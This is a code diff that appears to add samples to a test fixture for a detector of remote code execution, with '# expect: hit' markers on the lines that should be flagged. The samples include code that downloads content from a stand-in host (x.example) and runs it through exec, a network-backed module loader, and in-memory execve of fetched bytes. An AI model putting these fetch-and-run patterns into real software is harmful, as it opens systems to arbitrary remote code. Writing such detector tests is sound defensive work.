@@ -1,3 +1,5 @@
+import aiohttp
+import importlib.abc
 import asyncio
 import ctypes
 import hashlib
@@ -190,3 +192,55 @@ def in_memory():
     number = os.memfd_create("x")
     os.write(number, requests.get(URL).content)
     os.execve(f"/proc/self/fd/{number}", ["x"], os.environ)  # expect: hit
+
+
+class Extensions(importlib.abc.SourceLoader):
+    def get_filename(self, name):
+        return f"https://x.example/{name}.py"
+
+    def get_data(self, path):
+        return requests.get(path).content  # expect: hit
+
+
+class Local(importlib.abc.SourceLoader):
+    def get_filename(self, name):
+        return f"extensions/{name}.py"
+
+    def get_data(self, path):
+        with open(path, "rb") as file:
+            return file.read()
+
+
+STEPS = asyncio.Queue()
+
+
+async def fetching(session):
+    while True:
+        async with session.get("https://x.example/next") as reply:
+            await STEPS.put((await reply.json())["step"])
+
+
+async def working():
+    while True:
+        exec(await STEPS.get(), {})  # expect: hit
+
+
+async def both():
+    async with aiohttp.ClientSession() as session:
+        await asyncio.gather(fetching(session), working())
+
+
+class Agent:
+    def __init__(self):
+        self.step = self.shown = None
+
+    def poll(self):
+        self.step = requests.get(URL).text
+        self.shown = requests.get(URL).text
+
+    def work(self):
+        exec(self.step, {})  # expect: hit
+
+    def show(self):
+        print(self.shown)
+        subprocess.run(["notify-send", self.shown])
